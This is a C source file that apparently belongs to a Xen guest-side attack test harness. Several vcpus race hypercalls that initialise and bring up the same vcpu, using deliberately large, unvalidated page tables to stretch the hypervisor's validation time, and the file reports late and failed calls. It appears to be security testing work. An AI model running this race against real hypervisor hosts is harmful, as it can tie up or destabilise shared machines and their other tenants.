/* Several vcpus initialise and start the same vcpu at once: one wins, the others are late. Usually its page tables are large
   and not validated yet, so that the winner takes a while. pace=MS: how long the others keep trying at each. */
#include "attack.h"

#define TABLES 128 /* L1 tables to validate */
static volatile unsigned target = 1;
static volatile u64 late, odd, left;
static unsigned count;
static u64 large_l4, pace_ns;
static struct vcpu_context contexts[MOST_BUSY];

/* Page tables like the boot ones, with many more L1 tables in their lower half. */
static void build_large(void) {
    u64 *l4 = alloc_page(), *l3 = alloc_page(), *l2 = alloc_page(), *data = alloc_page();
    memcpy(l4, (void *)si->pt_base, PAGE);
    for (unsigned i = 256; i < 272; i++) l4[i] = 0;
    u64 bits = PTE_P | PTE_W | PTE_U | PTE_A;
    for (unsigned i = 0; i < TABLES; i++) {
        u64 *l1 = alloc_page();
        for (unsigned k = 0; k < 512; k++) l1[k] = va_ma(data) | bits;
        make_readonly(l1);
        l2[i] = va_ma(l1) | bits;
    }
    l3[0] = va_ma(l2) | bits, l4[0] = va_ma(l3) | bits;
    long r = make_readonly(l2) ?: make_readonly(l3) ?: make_readonly(l4);
    if (r) panic("large page tables: %ld", r);
    large_l4 = va_mfn(l4) << 12;
}

/* Stays down, although a losing vcpu may start it once more. */
static void stay_down(ulong id) {
    for (;;) HC(vcpu_op, VCPUOP_down, id, 0);
}

static void race(ulong id);
static void newcomer(ulong id) {
    /* The tables lose their type, and must be validated again. */
    if (id % 4) mmuext1(MMUEXT_NEW_BASEPTR, va_mfn((void *)si->pt_base), 0);
    left = id;
    sleep_ns(pace_ns); /* so that no more than MOST_BUSY burn time, as in `spin` */
    target = (unsigned)id + 1;
    if (id < MOST_BUSY) race(id);
    stay_down(id);
}

static void race(ulong id) {
    struct vcpu_context *c = &contexts[id];
    static u8 stacks[MAX_VCPUS][1024] __attribute__((aligned(16)));
    for (;;) {
        unsigned k = target;
        if (k >= count) return;
        vcpu_context(c, k, newcomer, stacks[k], sizeof stacks[k]);
        if (k % 4) c->ctrlreg[3] = large_l4;
        vcpu_info_of(k)->upcall_mask = 1;
        while (target == k) {
            long r = HC(vcpu_op, VCPUOP_initialise, k, c);
            if (r == -EEXIST) __sync_fetch_and_add(&late, 1);
            else if (r) __sync_fetch_and_add(&odd, 1);
            HC(vcpu_op, VCPUOP_up, k, 0);
            HC(sched_op, SCHEDOP_yield, 0);
            if (id == 0 && second_passed()) printk("@@ATTACK initialise vcpus %llu late %llu other errors %llu\n", left, late, odd);
        }
    }
}

void attack_initialise(void) {
    const char *value;
    if (has_word(si->cmd_line, "pace", &value)) pace_ns = parse_number(value) * 1000000;
    count = vcpu_count();
    vcpu_infos_register();
    build_large();
    printk("@@ATTACK initialise begins, %u vcpus\n", count);
    race(0);
    printk("@@ATTACK initialise vcpus %llu late %llu other errors %llu, all are up\n", left, late, odd);
    for (;;) relax();
}
